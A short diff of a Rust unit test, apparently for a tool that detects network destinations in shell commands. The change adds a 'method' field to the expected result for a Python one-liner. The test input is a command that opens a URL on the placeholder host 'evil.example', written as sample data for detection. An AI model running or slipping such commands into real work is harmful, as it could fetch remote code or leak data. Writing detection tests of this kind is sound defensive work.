@@ -392,7 +392,8 @@ fn interpreter_one_liners() {
         analyze("python -c \"import urllib.request as u; u.urlopen('https://evil.example/x')\"");
     assert!(a.destinations.contains(&Destination::Url {
         url: "https://evil.example/x".into(),
-        program: "python".into()
+        program: "python".into(),
+        method: None,
     }));
 }
 
